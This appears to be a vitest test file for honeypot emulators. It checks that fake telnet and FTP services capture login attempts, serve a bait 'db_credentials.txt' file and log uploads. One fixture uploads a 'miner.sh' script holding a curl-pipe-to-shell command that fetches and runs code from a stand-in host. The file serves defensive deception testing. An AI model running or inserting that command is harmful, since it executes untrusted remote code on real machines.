import { connect } from 'node:net'
import { describe, expect, it } from 'vitest'
import { closeStartedAfterEach, rawClient, startTestEmulator } from './helpers.ts'

closeStartedAfterEach()

describe('telnet emulator', () => {
  it('negotiates, prompts for login, captures credentials and runs the fake shell', async () => {
    const telnet = await startTestEmulator('telnet', { config: { user: 'admin', user_password: 'admin123' } })
    const client = await rawClient(telnet.host, telnet.port)
    // netkit telnetd asks for the terminal options first and starts login once answered.
    expect(await client.expect(/\xff\xfd'$/)).toBe("\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd'")
    client.send(Buffer.from([0xff, 0xfc, 0x18]))
    const greeting = await client.expect(/login: $/)
    expect(greeting).toMatch(/SRV-DELTA-42 login: $/)
    client.send(Buffer.from([0xff, 0xfd, 0x01])) // IAC DO ECHO: must be swallowed
    client.send('root\r\n')
    await client.expect(/Password: $/)
    client.send('wrong\r\n')
    await client.expect(/Login incorrect\r\nSRV-DELTA-42 login: $/)
    client.send('admin\r\n')
    await client.expect(/Password: $/)
    client.send('admin123\r\n')
    await client.expect(/admin@SRV-DELTA-42:~\$ $/)
    client.send('uname -a\r\n')
    await client.expect(/Linux SRV-DELTA-42 .*GNU\/Linux\r\n.*\$ $/)
    client.send('exit\r\n')
    await client.closed
    const attempts = telnet.events
      .filter((e) => e.event === 'auth_attempt')
      .map((e) => [e.fields.username, e.fields.password, e.fields.success])
    expect(attempts).toEqual([
      ['root', 'wrong', false],
      ['admin', 'admin123', true],
    ])
    const command = await telnet.waitFor((e) => e.event === 'command')
    expect(command.fields).toMatchObject({ cmd: 'uname -a', username: 'admin', via: 'telnet' })
  })
})

describe('ftp emulator', () => {
  it('captures USER/PASS, lists bait files over PASV and logs RETR and STOR', async () => {
    const ftp = await startTestEmulator('ftp')
    const client = await rawClient(ftp.host, ftp.port)
    expect(await client.expect(/^220 .*\r\n$/)).toMatch(
      /^220 (\(vsFTPd 3\.0\.\d\)|ProFTPD Server \(SRV-DELTA-42\))\r\n$/,
    )
    client.send('USER admin\r\n')
    await client.expect(/^331 /)
    client.send('PASS letmein\r\n')
    await client.expect(/^530 Login incorrect/)
    client.send('LIST\r\n')
    await client.expect(/^530 Please login/)
    client.send('USER anonymous\r\nPASS guest@example.com\r\n')
    await client.expect(/230 Login successful/)
    const dataConnection = async () => {
      client.send('PASV\r\n')
      const pasv = await client.expect(/227 .*\r\n/)
      const [, p1, p2] = /\(\d+,\d+,\d+,\d+,(\d+),(\d+)\)/.exec(pasv) ?? []
      const socket = connect({ host: ftp.host, port: Number(p1) * 256 + Number(p2) })
      await new Promise((resolve) => socket.once('connect', resolve))
      return socket
    }
    const readAll = (socket: import('node:net').Socket) =>
      new Promise<string>((resolve) => {
        let text = ''
        socket.on('data', (chunk: Buffer) => {
          text += chunk.toString('latin1')
        })
        socket.on('end', () => resolve(text))
      })
    let data = await dataConnection()
    client.send('LIST\r\n')
    const listing = await readAll(data)
    expect(listing).toMatch(
      /-rw-r--r-- +1 1001 +1001 +\d+ \w{3} [ \d]\d (\d\d:\d\d| \d{4}) db_credentials\.txt/,
    )
    await client.expect(/226 Directory send OK/)
    data = await dataConnection()
    client.send('RETR db_credentials.txt\r\n')
    expect(await readAll(data)).toMatch(/password=/)
    await client.expect(/226 Transfer complete/)
    data = await dataConnection()
    client.send('STOR miner.sh\r\n')
    await client.expect(/150 Ok to send data/)
    data.end('#!/bin/sh\ncurl http://203.0.113.7/x | sh\n')
    await client.expect(/226 Transfer complete/)
    client.send('QUIT\r\n')
    await client.closed
    const auth = ftp.events.filter((e) => e.event === 'auth_attempt')
    expect(auth.map((e) => [e.fields.username, e.fields.password, e.fields.success])).toEqual([
      ['admin', 'letmein', false],
      ['anonymous', 'guest@example.com', true],
    ])
    expect(auth[0]?.secret_fields).toEqual(['password'])
    expect((await ftp.waitFor((e) => e.event === 'download_attempt')).fields).toMatchObject({
      path: 'db_credentials.txt',
      found: true,
    })
    const upload = await ftp.waitFor((e) => e.event === 'upload')
    expect(upload.fields).toMatchObject({ path: 'miner.sh', bytes: 41 })
    expect(String(upload.fields.sha256)).toMatch(/^[0-9a-f]{64}$/)
  })
})
